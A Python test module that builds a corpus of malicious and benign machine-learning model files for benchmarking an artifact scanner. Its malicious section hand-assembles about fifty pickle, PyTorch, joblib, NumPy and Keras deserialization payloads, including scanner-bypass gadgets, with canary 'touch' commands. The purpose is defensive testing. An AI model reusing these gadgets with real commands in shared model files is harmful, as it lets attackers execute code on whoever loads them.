"""A generated corpus of malicious and benign model artifacts for the artifact scanner.

``build_corpus(dir)`` writes every file under ``dir`` and returns one :class:`CorpusItem` per
file. Every malicious payload is a *canary*: if anything ever executed it, it would create the
item's ``canary`` file (``touch``/``open(..., "w")`` aimed at a unique path under
``dir/canaries``), so tests (and benchmarks running other scanners) can assert that nothing was
executed. Nothing here loads or runs a payload; pickles are written from raw opcodes or with
``pickle.dumps`` of objects whose ``__reduce__`` names the callable (dumping never calls it).

Reused by ``bench/`` to compare mlhunt with picklescan and modelscan on the same files.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

TORCH_LEGACY_MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."


@dataclass(frozen=True)
class CorpusItem:
    path: Path
    technique: str
    malicious: bool
    expect: str = "high"  # lowest severity mlhunt must report (malicious items)
    canary: Path | None = None
    note: str = ""


# --------------------------------------------------------------------------- opcode assembler


def u(text: str) -> bytes:
    """A str literal (SHORT_BINUNICODE or BINUNICODE)."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL (text form, any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two literal strings (protocol 4)."""
    return u(module) + u(name) + b"\x93"


def t(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + t(*args) + b"R"


P2 = b"\x80\x02"
P4 = b"\x80\x04"
STOP = b"."


def reduce_pickle(func: Callable[..., object], *args: object, protocol: int = 4) -> bytes:
    """pickle.dumps of an object whose __reduce__ is (func, args): dumping never calls func."""

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (func, args)

    return pickle.dumps(Payload(), protocol=protocol)


# --------------------------------------------------------------------------- builders


class _Builder:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.canaries = root / "canaries"
        self.canaries.mkdir(parents=True, exist_ok=True)
        self.items: list[CorpusItem] = []

    def canary(self, technique: str) -> Path:
        return self.canaries / f"{technique}.canary"

    def cmd(self, technique: str) -> str:
        return f"touch {self.canary(technique)}"

    def py(self, technique: str) -> str:
        return f"open({str(self.canary(technique))!r}, 'w').close()"

    def add(
        self,
        name: str,
        data: bytes,
        technique: str,
        *,
        malicious: bool = True,
        expect: str = "high",
        note: str = "",
    ) -> Path:
        path = self.root / ("malicious" if malicious else "benign") / name
        assert not path.exists(), f"corpus name used twice: {path}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.items.append(
            CorpusItem(
                path,
                technique,
                malicious,
                expect,
                self.canary(technique) if malicious else None,
                note,
            )
        )
        return path


def _zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _npy_object(payload_pickle: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload_pickle


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _pb(num: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return _varint(num << 3) + _varint(payload)
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def _onnx(location: str) -> bytes:
    entries = b"".join(
        _pb(13, _pb(1, k.encode()) + _pb(2, v.encode()))
        for k, v in (("location", location), ("offset", "0"), ("length", "16"))
    )
    tensor = _pb(1, 4) + _pb(2, 1) + _pb(8, b"weight") + entries + _pb(14, 1)
    node = _pb(1, b"X") + _pb(1, b"weight") + _pb(2, b"Y") + _pb(4, b"Add")
    graph = _pb(1, node) + _pb(2, b"g") + _pb(5, tensor)
    return _pb(1, 8) + _pb(2, b"mlhunt-corpus") + _pb(8, _pb(1, b"") + _pb(2, 17)) + _pb(7, graph)


def _safetensors(header: dict[str, object], body: bytes) -> bytes:
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + body


def _keras_config(layers: list[dict[str, object]]) -> bytes:
    return json.dumps(
        {
            "module": "keras",
            "class_name": "Sequential",
            "registered_name": None,
            "config": {
                "name": "seq",
                "trainable": True,
                "layers": [
                    {
                        "module": "keras.layers",
                        "class_name": "InputLayer",
                        "registered_name": None,
                        "config": {"batch_shape": [None, 4], "name": "input"},
                    },
                    *layers,
                    {
                        "module": "keras.layers",
                        "class_name": "Dense",
                        "registered_name": None,
                        "config": {"name": "dense", "units": 2, "activation": "softmax"},
                    },
                ],
            },
        }
    ).encode()


def _marshalled_lambda(source: str) -> str:
    code = compile(source, "<lambda>", "eval")  # compiled, never run
    return base64.b64encode(marshal.dumps(code)).decode()


# --------------------------------------------------------------------------- malicious


def _malicious(b: _Builder) -> None:
    def cmd(tech: str) -> bytes:
        return u(b.cmd(tech))

    # 1. os.system via __reduce__ (pickled as posix.system, protocol 4 with FRAME)
    tech = "reduce-os-system"
    b.add("model.pkl", reduce_pickle(os.system, b.cmd(tech)), tech, expect="critical")

    # 2. protocol 0 text pickle: GLOBAL + STRING + TUPLE + REDUCE, no PROTO opcode
    tech = "protocol0-text"
    b.add(
        "text_model.pkl",
        b"cos\nsystem\n(S'" + b.cmd(tech).encode() + b"'\ntR.",
        tech,
        expect="critical",
    )

    # 3. subprocess.Popen via GLOBAL in protocol 2, argument list
    tech = "subprocess-popen"
    payload = (
        P2
        + call(g("subprocess", "Popen"), b"]" + b"(" + u("touch") + u(str(b.canary(tech))) + b"e")
        + STOP
    )
    b.add("weights.bin", payload, tech, expect="critical")

    # 4./5. builtins.eval / builtins.exec with Python source
    for tech, fn in (("builtins-eval", "eval"), ("builtins-exec", "exec")):
        b.add(
            f"{fn}.pkl",
            P4 + call(sg("builtins", fn), u(b.py(tech))) + STOP,
            tech,
            expect="critical",
        )

    # 6. Python 2 module name (__builtin__) mapped by the unpickler to builtins
    tech = "py2-builtin-name"
    b.add(
        "py2.pkl",
        P2 + call(g("__builtin__", "eval"), u(b.py(tech))) + STOP,
        tech,
        expect="critical",
    )

    # 7. importlib.import_module('os') then builtins.getattr(module, 'system')
    tech = "importlib-getattr"
    mod = call(sg("importlib", "import_module"), u("os"))
    system = call(sg("builtins", "getattr"), mod, u("system"))
    b.add("importlib.pkl", P4 + call(system, cmd(tech)) + STOP, tech, expect="critical")

    # 8. builtins.__import__ result kept in the memo, getattr through BINGET
    tech = "import-memo-getattr"
    body = (
        call(sg("builtins", "__import__"), u("os"))
        + b"q\x07"
        + b"0"  # BINPUT 7, POP
        + sg("builtins", "getattr")
        + b"(h\x07"
        + u("system")
        + b"tR"  # getattr(memo[7])
        + t(cmd(tech))
        + b"R"
    )
    b.add("memo_getattr.pkl", P4 + body + STOP, tech, expect="critical")

    # 9. STACK_GLOBAL whose module and name come from memoised strings
    tech = "stack-global-memo"
    body = (
        b"]"
        + b"("
        + u("os")
        + b"\x94"
        + u("system")
        + b"\x94"
        + u("benign")
        + b"e0"
        + b"h\x00h\x01\x93"
        + t(cmd(tech))
        + b"R"
    )
    b.add("memo_stack_global.pkl", P4 + body + STOP, tech, expect="critical")

    # 10. code.InteractiveInterpreter.runsource through a dotted attribute path
    tech = "code-interactive-interpreter"
    interp = call(sg("code", "InteractiveInterpreter"))
    body = call(sg("code", "InteractiveInterpreter.runsource"), interp, u(b.py(tech)))
    b.add("interp.pkl", P4 + body + STOP, tech, expect="critical")

    # 11. timeit.timeit with a statement
    tech = "timeit-stmt"
    b.add(
        "timeit.pkl",
        P4
        + call(
            sg("timeit", "timeit"), u(b.py(tech)), u("pass"), sg("time", "perf_counter"), b"K\x01"
        )
        + STOP,
        tech,
        expect="critical",
    )

    # 12./13. profiler and debugger "run a string" entry points
    for tech, module in (
        ("cprofile-run", "cProfile"),
        ("pdb-run", "pdb"),
        ("profile-run", "profile"),
    ):
        b.add(
            f"{module}.pkl",
            P4 + call(sg(module, "run"), u(b.py(tech))) + STOP,
            tech,
            expect="critical",
        )

    # 14. runpy.run_path on a script that creates the canary
    tech = "runpy-run-path"
    script = b.root / "scripts" / "payload.py"
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text(b.py(tech) + "\n")
    b.add(
        "runpy.pkl",
        P4 + call(sg("runpy", "run_path"), u(str(script))) + STOP,
        tech,
        expect="critical",
    )

    # 15. subprocess.Popen constructed through copyreg._reconstructor (an allowed helper)
    tech = "copyreg-popen"
    popen = sg("subprocess", "Popen")
    body = call(
        sg("copyreg", "_reconstructor"),
        popen,
        popen,
        b"]" + b"(" + u("touch") + u(str(b.canary(tech))) + b"e",
    )
    b.add("copyreg.pkl", P4 + body + STOP, tech, expect="critical")

    # 16. operator.methodcaller('system', cmd) applied to the os module
    tech = "operator-methodcaller"
    caller = call(sg("operator", "methodcaller"), u("system"), cmd(tech))
    b.add(
        "methodcaller.pkl",
        P4 + call(caller, call(sg("builtins", "__import__"), u("os"))) + STOP,
        tech,
        expect="critical",
    )

    # 17. functools.partial chain around os.system, then called
    tech = "functools-partial-chain"
    inner = call(sg("functools", "partial"), sg("posix", "system"), cmd(tech))
    outer = call(sg("functools", "partial"), inner)
    b.add("partial.pkl", P4 + call(outer) + STOP, tech, expect="critical")

    # 18. INST legacy opcode (protocol 0)
    tech = "inst-opcode"
    b.add("inst.pkl", b"(S'" + b.cmd(tech).encode() + b"'\nios\nsystem\n.", tech, expect="critical")

    # 19. OBJ legacy opcode (protocol 1)
    tech = "obj-opcode"
    b.add("obj.pkl", b"(" + g("os", "system") + u(b.cmd(tech)) + b"o.", tech, expect="critical")

    # 20. NEWOBJ_EX builds a lazy builtins.map(posix.system, [cmd]); builtins.list (allowed)
    # consumes it
    tech = "newobj-ex-lazy-map"
    lazy = sg("builtins", "map") + t(sg("posix", "system"), b"]" + cmd(tech) + b"a") + b"}\x92"
    b.add("newobj_ex.pkl", P4 + call(sg("builtins", "list"), lazy) + STOP, tech, expect="critical")

    # 21. BUILD __setstate__ gadget: BUILD sets an instance __setstate__, a second BUILD calls it
    tech = "build-setstate"
    body = (
        call(sg("collections", "OrderedDict"))
        + b"}"
        + u("__setstate__")
        + sg("posix", "system")
        + b"sb"
        + cmd(tech)
        + b"b"
    )
    b.add("setstate.pkl", P4 + body + STOP, tech, expect="critical")

    # 22. BUILD on an imported class: set UserDict.__init__ to partial(posix.system, cmd), then
    # instantiate the class (the command runs before __init__'s return value is checked)
    tech = "build-class-attribute-overwrite"
    patched = call(sg("functools", "partial"), sg("posix", "system"), cmd(tech))
    body = (
        sg("collections", "UserDict")
        + b"N}"
        + u("__init__")
        + patched
        + b"s\x86b0"
        + call(sg("collections", "UserDict"))
    )
    b.add("monkeypatch.pkl", P4 + body + STOP, tech, expect="critical")

    # 23. payload in a second pickle of the same file
    tech = "second-pickle"
    b.add(
        "two.pkl",
        pickle.dumps({"weights": [1.0, 2.0]}, 2)
        + reduce_pickle(os.system, b.cmd(tech), protocol=2),
        tech,
        expect="critical",
    )

    # 24. payload followed by garbage bytes
    tech = "payload-then-garbage"
    b.add(
        "garbage.pkl",
        reduce_pickle(os.system, b.cmd(tech)) + os.urandom(512),
        tech,
        expect="critical",
    )

    # 25. REDUCE executed before the stream breaks (no STOP ever reached)
    tech = "payload-without-stop"
    b.add(
        "truncated.pkl",
        P4 + call(sg("posix", "system"), cmd(tech)) + b"\xff\xfe garbage",
        tech,
        expect="critical",
    )

    # 26. numpy.testing runstring (a picklescan bypass)
    tech = "numpy-runstring"
    b.add(
        "np_runstring.pkl",
        P4 + call(sg("numpy.testing._private.utils", "runstring"), u(b.py(tech)), b"}") + STOP,
        tech,
        expect="critical",
    )

    # 27. os.system reached through another module's attribute (tempfile._os.system)
    tech = "dotted-attribute-path"
    b.add(
        "dotted.pkl",
        P4 + call(sg("tempfile", "_os.system"), cmd(tech)) + STOP,
        tech,
        expect="critical",
    )

    # 28. numpy's ufunc importer resolving os.system from strings
    tech = "ufunc-importer"
    fn = call(sg("numpy.core", "_ufunc_reconstruct"), u("os"), u("system"))
    b.add("ufunc.pkl", P4 + call(fn, cmd(tech)) + STOP, tech, expect="critical")

    # 29. pkgutil.resolve_name('os:system')
    tech = "pkgutil-resolve-name"
    fn = call(sg("pkgutil", "resolve_name"), u("os:system"))
    b.add("resolve.pkl", P4 + call(fn, cmd(tech)) + STOP, tech, expect="critical")

    # 30. sys.modules lookup then getattr
    tech = "sys-modules"
    mod = call(sg("operator", "getitem"), sg("sys", "modules"), u("os"))
    fn = call(sg("builtins", "getattr"), mod, u("system"))
    b.add("sysmodules.pkl", P4 + call(fn, cmd(tech)) + STOP, tech, expect="critical")

    # 31. marshal.loads + types.FunctionType: run compiled bytecode
    tech = "marshal-functiontype"
    code = marshal.dumps(compile(b.py(tech), "<x>", "exec"))
    codeobj = call(
        sg("marshal", "loads"),
        b"C" + bytes([len(code)]) + code
        if len(code) < 256
        else b"B" + struct.pack("<I", len(code)) + code,
    )
    func = call(sg("types", "FunctionType"), codeobj, b"}")
    b.add("marshal.pkl", P4 + call(func) + STOP, tech, expect="critical")

    # 32. nested pickle: pickle.loads(b'<payload>')
    tech = "nested-pickle-loads"
    inner_p = reduce_pickle(os.system, b.cmd(tech))
    b.add(
        "nested.pkl",
        P4 + call(sg("pickle", "loads"), b"B" + struct.pack("<I", len(inner_p)) + inner_p) + STOP,
        tech,
        expect="critical",
    )

    # 33. torch.storage._load_from_bytes on a legacy-format payload
    tech = "torch-load-from-bytes"
    inner_p = (
        pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + reduce_pickle(os.system, b.cmd(tech), protocol=2)
    )
    b.add(
        "storage.pkl",
        P2
        + call(
            g("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(inner_p)) + inner_p
        )
        + STOP,
        tech,
        expect="critical",
    )

    # 34. builtins.open writing a file
    tech = "builtins-open-write"
    b.add(
        "open.pkl",
        P4 + call(sg("builtins", "open"), u(str(b.canary(tech))), u("w")) + STOP,
        tech,
        expect="critical",
    )

    # 35. shutil.copyfile: file write without code execution
    tech = "shutil-copyfile"
    b.add(
        "copy.pkl",
        P4 + call(sg("shutil", "copyfile"), u(str(script)), u(str(b.canary(tech)))) + STOP,
        tech,
        expect="critical",
    )

    # 36. pty.spawn
    tech = "pty-spawn"
    b.add(
        "pty.pkl",
        P4
        + call(sg("pty", "spawn"), b"]" + b"(" + u("touch") + u(str(b.canary(tech))) + b"e")
        + STOP,
        tech,
        expect="critical",
    )

    # 37. sparse memo: LONG_BINPUT/LONG_BINGET at huge indices feed STACK_GLOBAL
    tech = "sparse-memo-indices"
    body = (
        u("subprocess")
        + b"r\x70\x11\x01\x00"
        + b"0"
        + u("check_call")
        + b"r\xa0\x86\x01\x00"
        + b"0"
        + b"j\x70\x11\x01\x00"
        + b"j\xa0\x86\x01\x00"
        + b"\x93"
        + t(b"]" + b"(" + u("touch") + u(str(b.canary(tech))) + b"e")
        + b"R"
    )
    b.add("sparse_memo.pkl", P4 + body + STOP, tech, expect="critical")

    # 38. module name from protocol 0 UNICODE literal + DUP trickery
    tech = "unicode-dup"
    body = (
        b"Vposix\n" + b"2" + b"0" + b"Vsystem\n" + b"\x93" + b"(V" + b.cmd(tech).encode() + b"\ntR"
    )
    b.add("unicode.pkl", P4 + body + STOP, tech, expect="critical")

    # 39. a pickle renamed .dat inside a PyTorch zip (not data.pkl)
    tech = "torch-zip-renamed-entry"
    benign = _torch_zip_bytes()
    if benign is not None:
        with zipfile.ZipFile(io.BytesIO(benign)) as zf:
            entries = {i.filename: zf.read(i) for i in zf.infolist()}
        prefix = next(iter(entries)).split("/")[0]
        entries[f"{prefix}/extra/model.dat"] = reduce_pickle(os.system, b.cmd(tech), protocol=2)
        b.add(
            "checkpoint.ckpt",
            _zip(entries),
            tech,
            expect="critical",
            note="torch.load reads only data.pkl; any loader that opens the entry runs it",
        )

    # 40. malicious data.pkl in a torch-style zip named .pt
    tech = "torch-zip-data-pkl"
    b.add(
        "model.pt",
        _zip(
            {
                "archive/data.pkl": reduce_pickle(os.system, b.cmd(tech), protocol=2),
                "archive/version": b"3\n",
                "archive/byteorder": b"little",
            }
        ),
        tech,
        expect="critical",
    )

    # 41. payload in the sys-info pickle of a legacy torch file (after two benign pickles)
    tech = "torch-legacy-third-pickle"
    legacy = _torch_legacy_bytes()
    if legacy is not None:
        offsets = _pickle_ends(legacy, 3)
        payload = reduce_pickle(os.system, b.cmd(tech), protocol=2)
        b.add(
            "legacy.pth",
            legacy[: offsets[1]] + payload + legacy[offsets[2] :],
            tech,
            expect="critical",
        )

    # 42. nested zip: zip in a zip, pickle named weights.bin
    tech = "nested-zip"
    inner_zip = _zip({"weights.bin": reduce_pickle(os.system, b.cmd(tech))}, zipfile.ZIP_DEFLATED)
    b.add(
        "bundle.zip",
        _zip({"README.txt": b"model bundle", "inner/model.zip": inner_zip}),
        tech,
        expect="critical",
    )

    # 43. .npy object array carrying a payload
    tech = "npy-object-array"
    b.add(
        "array.npy",
        _npy_object(reduce_pickle(os.system, b.cmd(tech), protocol=3)),
        tech,
        expect="critical",
    )

    # 44. .npz with such an .npy
    tech = "npz-object-array"
    b.add(
        "arrays.npz",
        _zip(
            {"x.npy": _npy_object(reduce_pickle(os.system, b.cmd(tech), protocol=3))},
            zipfile.ZIP_DEFLATED,
        ),
        tech,
        expect="critical",
    )

    # 45. joblib file: NumpyArrayWrapper + raw array bytes, payload after the array data
    tech = "joblib-after-array"
    b.add("model.joblib", _joblib_bytes(b, tech, compress=0), tech, expect="critical")

    # 46. compressed joblib (zlib)
    tech = "joblib-zlib"
    b.add("model_z.joblib", _joblib_bytes(b, tech, compress=3), tech, expect="critical")

    # 47. gzip-compressed pickle
    tech = "gzip-pickle"
    import gzip

    b.add(
        "model.pkl.gz",
        gzip.compress(reduce_pickle(os.system, b.cmd(tech))),
        tech,
        expect="critical",
    )

    # 48. TorchScript-like zip with a malicious constants.pkl
    tech = "torchscript-constants"
    b.add(
        "scripted.pt",
        _zip(
            {
                "m/data.pkl": pickle.dumps({}, 2),
                "m/code/__torch__/m.py": b"class M: pass\n",
                "m/constants.pkl": reduce_pickle(os.system, b.cmd(tech), protocol=2),
                "m/version": b"1\n",
            }
        ),
        tech,
        expect="critical",
    )

    # 49. Keras .keras zip with a Lambda layer (marshalled bytecode)
    tech = "keras-lambda"
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": _marshalled_lambda(f"lambda x: ({b.py(tech)}, x)[1]"),
                    "defaults": None,
                    "closure": None,
                },
            },
            "arguments": {},
        },
    }
    b.add(
        "model.keras",
        _zip(
            {
                "metadata.json": b'{"keras_version": "3.4.1"}',
                "config.json": _keras_config([lam]),
                "model.weights.h5": b"",
            }
        ),
        tech,
        expect="critical",
    )

    # 50. Keras config naming os.system as a function (CVE-2025-1550 style)
    tech = "keras-module-function"
    fn = {
        "module": "keras.layers",
        "class_name": "Activation",
        "registered_name": None,
        "config": {
            "name": "act",
            "activation": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "function",
            },
        },
    }
    b.add(
        "module.keras",
        _zip(
            {
                "metadata.json": b'{"keras_version": "3.4.1"}',
                "config.json": _keras_config([fn]),
                "model.weights.h5": b"",
            }
        ),
        tech,
        expect="critical",
    )

    # 51. Keras 2 .h5 with a Lambda in model_config
    tech = "h5-lambda"
    h5 = _h5_bytes(
        b.root / "tmp_lambda.h5",
        {
            "class_name": "Sequential",
            "config": {
                "name": "seq",
                "layers": [
                    {
                        "class_name": "Lambda",
                        "config": {
                            "name": "lambda_1",
                            "function_type": "lambda",
                            "output_shape": None,
                            "function": [
                                _marshalled_lambda(f"lambda x: ({b.py(tech)}, x)[1]"),
                                None,
                                None,
                            ],
                        },
                    }
                ],
            },
        },
    )
    if h5 is not None:
        b.add("model.h5", h5, tech, expect="critical")

    # 52. ONNX external data escaping the model folder
    tech = "onnx-external-escape"
    b.add(
        "model.onnx",
        _onnx(f"../../../{b.canary(tech).name}"),
        tech,
        expect="high",
        note="no code runs: the loader reads (or with save, writes) outside the folder",
    )

    # 53. safetensors with a lying header (offsets past the end of the file)
    tech = "safetensors-lying-header"
    b.add(
        "model.safetensors",
        _safetensors(
            {
                "w": {"dtype": "F32", "shape": [1024, 1024], "data_offsets": [0, 4 << 20]},
                "__metadata__": {"format": "pt"},
            },
            b"\0" * 64,
        ),
        tech,
        expect="medium",
        note="no code: a parser that trusts the header reads past the buffer",
    )

    # 54. pickle + zip polyglot: pickle loaders and zip loaders see different files
    tech = "pickle-zip-polyglot"
    b.add(
        "poly.bin",
        reduce_pickle(os.system, b.cmd(tech)) + _zip({"archive/data.pkl": pickle.dumps({}, 2)}),
        tech,
        expect="critical",
    )


# --------------------------------------------------------------------------- helpers


def _pickle_ends(data: bytes, count: int) -> list[int]:
    """End offsets of the first ``count`` pickles (pickletools only decodes opcodes)."""
    import pickletools

    ends = []
    stream = io.BytesIO(data)
    for _ in range(count):
        for op, _arg, _pos in pickletools.genops(stream):
            if op.name == "STOP":
                break
        ends.append(stream.tell())
    return ends


def _torch_net():  # type: ignore[no-untyped-def]
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))


def _torch_zip_bytes() -> bytes | None:
    try:
        import torch
    except ImportError:
        return None
    buf = io.BytesIO()
    torch.save(_torch_net().state_dict(), buf)
    return buf.getvalue()


def _torch_legacy_bytes() -> bytes | None:
    try:
        import torch
    except ImportError:
        return None
    buf = io.BytesIO()
    torch.save(_torch_net().state_dict(), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _joblib_bytes(b: _Builder, tech: str, compress: int) -> bytes:
    import joblib
    import numpy as np

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (b.cmd(tech),))

    buf = io.BytesIO()
    joblib.dump(
        {"coef": np.arange(64, dtype=np.float64), "hook": Payload()}, buf, compress=compress
    )
    return buf.getvalue()


def _h5_bytes(scratch: Path, config: dict[str, object]) -> bytes | None:
    try:
        import h5py
    except ImportError:
        return None
    with h5py.File(scratch, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")
    data = scratch.read_bytes()
    scratch.unlink()
    return data


# --------------------------------------------------------------------------- benign


def _benign(b: _Builder) -> None:
    import joblib
    import numpy as np
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler

    def add(name: str, data: bytes, technique: str) -> None:
        b.add(name, data, technique, malicious=False, expect="none")

    rng = np.random.default_rng(0)
    X = rng.normal(size=(120, 4))
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    pipe = make_pipeline(
        FunctionTransformer(np.log1p, validate=False), StandardScaler(), LogisticRegression()
    ).fit(np.abs(X), y)
    forest = RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y)
    hgb = HistGradientBoostingClassifier(max_iter=10).fit(X, y)
    cats = np.array([["a"], ["b"], ["a"]], dtype=object)
    ct = ColumnTransformer([("oh", OneHotEncoder(), [0])]).fit(cats)

    for name, obj in (("pipeline", pipe), ("forest", forest), ("hgb", hgb), ("columns", ct)):
        buf = io.BytesIO()
        joblib.dump(obj, buf)
        add(f"{name}.joblib", buf.getvalue(), f"sklearn-{name}-joblib")
        add(f"{name}.pkl", pickle.dumps(obj), f"sklearn-{name}-pickle")
    buf = io.BytesIO()
    joblib.dump(pipe, buf, compress=3)
    add("pipeline_z.joblib", buf.getvalue(), "sklearn-joblib-zlib")
    add("forest_p2.pkl", pickle.dumps(forest, protocol=2), "sklearn-pickle-protocol2")
    add(
        "rng.pkl",
        pickle.dumps({"rng": np.random.default_rng(1), "legacy": np.random.RandomState(2)}),
        "numpy-rng-pickle",
    )

    np_buf = io.BytesIO()
    np.save(np_buf, rng.normal(size=(8, 3)))
    add("array.npy", np_buf.getvalue(), "numpy-npy")
    np_buf = io.BytesIO()
    np.savez(np_buf, a=np.arange(10), b=np.ones((2, 2)))
    add("arrays.npz", np_buf.getvalue(), "numpy-npz")
    np_buf = io.BytesIO()
    np.savez_compressed(np_buf, a=np.arange(1000))
    add("arrays_c.npz", np_buf.getvalue(), "numpy-npz-compressed")
    np_buf = io.BytesIO()
    np.save(np_buf, np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")]))
    add("structured.npy", np_buf.getvalue(), "numpy-structured-npy")

    try:
        import torch
    except ImportError:
        torch = None  # type: ignore[assignment]
    if torch is not None:
        net = _torch_net()
        opt = torch.optim.Adam(net.parameters(), lr=1e-3)
        net(torch.randn(3, 4)).sum().backward()
        opt.step()
        sched = torch.optim.lr_scheduler.StepLR(opt, 5)
        for name, obj, kwargs in (
            ("state_dict.pt", net.state_dict(), {}),
            (
                "checkpoint.ckpt",
                {
                    "model": net.state_dict(),
                    "optimizer": opt.state_dict(),
                    "scheduler": sched.state_dict(),
                    "epoch": 3,
                    "rng": torch.get_rng_state(),
                },
                {},
            ),
            (
                "legacy.pth",
                {"model": net.state_dict(), "optimizer": opt.state_dict()},
                {"_use_new_zipfile_serialization": False},
            ),
            ("full_model.pt", net, {}),
        ):
            buf = io.BytesIO()
            torch.save(obj, buf, **kwargs)
            add(name, buf.getvalue(), f"torch-{name.split('.')[0].replace('_', '-')}")
        buf = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            torch.jit.save(torch.jit.script(net), buf)
        add("scripted.pt", buf.getvalue(), "torchscript")

    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "hidden", "units": 8, "activation": "relu"},
    }
    add(
        "model.keras",
        _zip(
            {
                "metadata.json": b'{"keras_version": "3.4.1"}',
                "config.json": _keras_config([dense]),
                "model.weights.h5": b"",
            }
        ),
        "keras-zip",
    )
    h5 = _h5_bytes(
        b.root / "tmp_dense.h5",
        {
            "class_name": "Sequential",
            "config": {
                "name": "seq",
                "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2}}],
            },
        },
    )
    if h5 is not None:
        add("model.h5", h5, "keras-h5")
    body = np.arange(6, dtype="<f4").tobytes() + np.arange(2, dtype="<i8").tobytes()
    add(
        "model.safetensors",
        _safetensors(
            {
                "__metadata__": {"format": "pt", "source": "mlhunt corpus"},
                "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
                "b": {"dtype": "I64", "shape": [2], "data_offsets": [24, 40]},
            },
            body,
        ),
        "safetensors",
    )
    add("model.onnx", _onnx("model.onnx.data"), "onnx-external-data")
    add("notes.txt", b"classification threshold tuned on 2024-05 data\n", "plain-text")
    add("config.yaml", b"apiVersion: v1\nkind: ConfigMap\n", "yaml")


def build_corpus(directory: Path) -> list[CorpusItem]:
    """Write the corpus under ``directory`` and describe every file."""
    directory = Path(directory)
    builder = _Builder(directory)
    _malicious(builder)
    _benign(builder)
    return builder.items


def canaries_present(items: list[CorpusItem]) -> list[Path]:
    return [i.canary for i in items if i.canary is not None and i.canary.exists()]


if __name__ == "__main__":  # python tests/scan_corpus.py DIR: write the corpus and list it
    import sys

    out = Path(sys.argv[1] if len(sys.argv) > 1 else "scan-corpus")
    for item in build_corpus(out):
        print(("MAL " if item.malicious else "OK  ") + f"{item.technique:32} {item.path}")
